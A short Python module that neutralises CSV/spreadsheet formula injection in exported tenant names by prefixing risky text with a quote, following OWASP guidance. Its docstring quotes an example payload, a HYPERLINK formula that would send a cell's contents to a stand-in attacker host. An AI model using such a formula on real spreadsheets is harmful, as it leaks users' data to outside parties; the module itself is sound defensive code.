"""Text cells that a spreadsheet will not run: names written into CSV and XLSX files pass through here.

Tenant, tier and pool names come from gateway label values, which whoever sends requests can choose. A
spreadsheet treats a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) as a formula, so a tenant named ``=HYPERLINK("http://evil.example/?"&A3,"x")`` would run in finance's
Excel. Following the OWASP guidance on CSV injection, such text gets a leading ``'``: Excel shows it as
text, and the name stays readable. Only names go through this; numbers (``-1.23``) are written as they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(text: str) -> str:
    """``text``, with a leading ``'`` if a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
